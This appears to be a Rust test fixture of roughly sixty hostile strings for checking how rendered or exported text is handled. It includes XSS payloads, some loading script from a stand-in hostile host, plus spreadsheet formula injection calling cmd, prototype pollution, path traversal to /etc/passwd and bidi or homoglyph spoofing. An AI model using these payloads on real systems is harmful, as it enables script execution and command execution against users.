//! Sixty texts that would harm a page, a file or a spreadsheet that takes them for more than texts. Each ends in what it
//! would do: call `alert`, ask another host, make an element, or say another thing than it shows.

/// The texts. None is empty or longer than a text of a plan may be.
pub(crate) fn strings() -> Vec<String> {
    let mut all: Vec<String> = MARKUP.iter().chain(&CODE).chain(&HIDDEN).map(|text| (*text).to_owned()).collect();
    all.push("A".repeat(4_000));
    all.push(["<b>", &"ô".repeat(3_990), "</b>"].concat());
    all.push(["a", &"\u{301}\u{323}\u{489}".repeat(300)].concat());
    all.push("<x>".repeat(1_300));
    all
}

/// Elements, handlers, addresses, and ways out of what they may stand in.
const MARKUP: [&str; 26] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//hostile.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"//hostile.example/pixel.png\">",
    "<svg onload=alert(1)><circle r=9></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">bấm vào đây</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
    "<form action=//hostile.example><button>Gửi</button></form>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//hostile.example\">",
    "<base href=//hostile.example/>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<style>*{display:none}</style>",
    "<p style=\"background:url(//hostile.example/x.png)\">x",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "\"><img src=x onerror=alert(1)>",
    "' autofocus onfocus='alert(1)' x='",
];

/// Addresses, templates, entities, formulas, and what ends a string or a line of another language.
const CODE: [&str; 20] = [
    "javascript:alert(1)",
    "JaVaScRiPt&#58;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "{item} {title} {n} {{item}}",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\ud800\\udc00\\x00\\0",
    "\",\"__proto__\":{\"polluted\":true},\"x\":\"",
    "__proto__",
    "';alert(1);//\";alert(1);//",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+HYPERLINK(\"//hostile.example\",\"bấm\")",
    "-2+3+cmd|' /C calc'!A0",
    "expression(alert(1)); background:url(//hostile.example/y.png)",
    "../../../../etc/passwd\\..\\..%00%2e%2e%2f",
];

/// What nobody sees, and what says another thing than it shows.
const HIDDEN: [&str; 10] = [
    "tổng \u{202e}000.000.1 đồng",
    "\u{2066}\u{2067}a\u{2069}b\u{202c}c\u{200f}d\u{61c}",
    "Ngân\u{200b} sách\u{200c} tỉnh\u{feff}",
    "dòng\u{2028}khác\u{2029}nữa",
    "\u{0}\u{1}\u{8}\u{b}\u{1b}[31m\u{7f}\u{9f}",
    "một\thai\r\nba\n=1+1",
    "T\u{e0041}\u{e0042}\u{e007f}x",
    "Ngаn sасh tỉnh", // Cyrillic а, с
    "שלום 5.000 عربي 1.000",
    "👩\u{200d}👩\u{200d}👧 ❤\u{fe0f} \u{1f3f4}\u{e0067}\u{e007f}",
];
